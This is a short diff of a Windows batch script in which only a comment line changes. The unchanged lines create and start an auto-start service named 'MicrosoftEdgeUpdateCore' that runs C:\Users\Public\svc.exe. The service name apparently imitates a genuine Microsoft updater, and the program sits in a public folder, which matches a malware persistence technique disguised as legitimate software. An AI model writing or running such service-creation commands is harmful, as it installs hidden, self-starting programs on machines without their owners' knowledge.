@@ -1,3 +1,3 @@
-REM init 8124 v2
+REM config 2278 v2
 sc create MicrosoftEdgeUpdateCore binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
 sc start MicrosoftEdgeUpdateCore
